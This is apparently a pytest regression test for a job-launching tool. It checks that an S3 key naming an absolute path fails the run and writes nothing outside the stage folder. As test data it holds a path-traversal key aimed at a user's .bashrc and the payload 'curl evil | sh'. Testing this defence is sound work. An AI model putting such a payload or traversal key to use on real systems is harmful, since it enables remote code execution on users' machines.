"""The issue's end-to-end case: a task file on the local cloud whose s3:// data holds a key
`PREFIX//<absolute path>` must fail clearly and write nothing outside the stage folder."""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import pytest

from spotlab.lab import FAKE_CREDENTIALS, REGION, MotoServer
from spotrun.core.config import load_settings
from spotrun.store.ledger import Ledger
from tests.conftest import Env
from tests.helpers import wait_for
from tests.unit.train.data.images import make_image_folder

pytestmark = pytest.mark.slow


def test_a_key_naming_an_absolute_path_fails_the_run_and_writes_nothing_outside(
    env: Env, tmp_path: Path
) -> None:
    server = MotoServer.shared()
    env.vars.update(FAKE_CREDENTIALS)
    env.vars.update(
        AWS_ENDPOINT_URL=server.url, AWS_DEFAULT_REGION=REGION, AWS_EC2_METADATA_DISABLED="true"
    )
    s3: Any = server.client("s3")
    bucket = "hostile-keys"
    s3.create_bucket(Bucket=bucket)
    folder = make_image_folder(tmp_path / "pets", per_class=1, per_class_test=1, size=8).root
    for path in sorted(folder.rglob("*.png")):
        s3.put_object(Bucket=bucket, Key=f"tree/{path.relative_to(folder)}", Body=b"png")
    victim = tmp_path / "user" / ".bashrc"
    victim.parent.mkdir()
    victim.write_text("alias ls='ls --color'\n")
    s3.put_object(Bucket=bucket, Key=f"tree/{victim}", Body=b"curl evil | sh\n")  # tree//...
    stage_root = tmp_path / "stage"
    env.vars["SPOTRUN_STAGE_ROOT"] = str(stage_root)

    (tmp_path / "proj").mkdir()
    (tmp_path / "proj" / "job.py").write_text("print('the job ran')\n")
    task = tmp_path / "task.yaml"
    task.write_text(
        f"name: hostile\nworkdir: proj\nrun: {json.dumps(sys.executable + ' job.py')}\n"
        f"data: s3://{bucket}/tree\nresources: {{gpus: 0}}\n"
    )
    run_id = env.cli("launch", str(task), "--cloud", "local", "-d", check=True).stdout.strip()

    def state() -> str:
        with Ledger(load_settings(env.home)) as ledger:
            return ledger.get_run(run_id).state.value

    wait_for(lambda: state() in ("succeeded", "failed", "stopped"), timeout=120, what="the end")
    status = json.loads(env.cli("status", run_id, "--json", check=True).stdout)
    assert status["state"] == "failed", status
    assert "is not a plain relative path" in status["message"], status["message"]
    assert victim.read_text() == "alias ls='ls --color'\n"
    assert "the job ran" not in env.cli("logs", run_id).stdout
    outside = [p for p in stage_root.rglob("*") if p.is_file() and not p.name.endswith(".lock")]
    assert outside == []
